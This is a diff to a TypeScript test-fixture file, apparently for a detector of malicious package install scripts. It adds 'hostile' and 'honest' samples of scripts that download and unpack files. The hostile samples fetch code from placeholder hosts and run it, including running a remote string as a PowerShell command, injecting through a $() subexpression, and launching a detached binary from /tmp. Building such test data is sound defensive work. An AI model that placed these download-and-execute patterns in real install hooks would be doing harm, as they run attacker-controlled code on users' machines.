@@ -143,3 +143,42 @@ export const wipers: Variants = {
       exports.stamp = (files) => { const year = new Date().getFullYear(); for (const f of files) fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace(/\\(c\\) \\d{4}/, '(c) ' + year)) }`),
   },
 }
+
+/** @param unpack what is done with `zip`, written from the release that `version` names */
+const downloader = (unpack: string) =>
+  install(`
+    const { createWriteStream, mkdirSync } = require('fs'), { spawnSync, execFileSync } = require('child_process'), { join } = require('path'), { pipeline } = require('stream/promises')
+    const dir = join(require('os').homedir(), '.cache', 'sample'); mkdirSync(dir, { recursive: true })
+    ;(async () => {
+      const { version } = await (await fetch('https://versions.invalid/stable.json')).json()
+      const zip = join(dir, version, 'tool.zip')
+      await pipeline((await fetch('https://github.com/sample/tool/releases/download/' + version + '/tool.zip')).body, createWriteStream(zip))
+      ${unpack}
+    })()`)
+
+export const downloads: Variants = {
+  name: 'what was downloaded is unpacked',
+  hostile: {
+    'a line that the host names is run': downloader("spawnSync('powershell', ['-Command', version])"),
+    'it is unpacked, and then its script is run': downloader(
+      "spawnSync('powershell', ['-NoProfile', '-Command', `Expand-Archive '${zip}' '${dir}'; & '${dir}/${version}/run.ps1'`])",
+    ),
+    'what stands in the quotes is worked out': downloader(
+      "spawnSync('powershell', ['-Command', `Expand-Archive \"$(${version})\" '${dir}'`])",
+    ),
+    'a pipeline ends in a file that is started': install(`
+      const { pipeline } = require('stream/promises'), fs = require('fs'), cp = require('child_process')
+      fetch('https://x.invalid/a').then(async (r) => { await pipeline(r.body, fs.createWriteStream('/tmp/.upd', { mode: 0o755 })); cp.spawn('/tmp/.upd', { detached: true }) })`),
+  },
+  honest: {
+    'by PowerShell': downloader(
+      "if (process.platform === 'win32') spawnSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -Force '${zip}' '${dir}'`])",
+    ),
+    'in silence, with the names of its options': downloader(
+      "execFileSync('powershell', ['-c', `$ProgressPreference = 'SilentlyContinue'; Expand-Archive -LiteralPath \"${zip}\" -DestinationPath \"${dir}\" -Force;`])",
+    ),
+    'by tar and unzip': downloader(
+      "spawnSync('tar', ['-xf', zip, '-C', dir]); spawnSync('unzip', ['-q', zip, '-d', dir])",
+    ),
+  },
+}
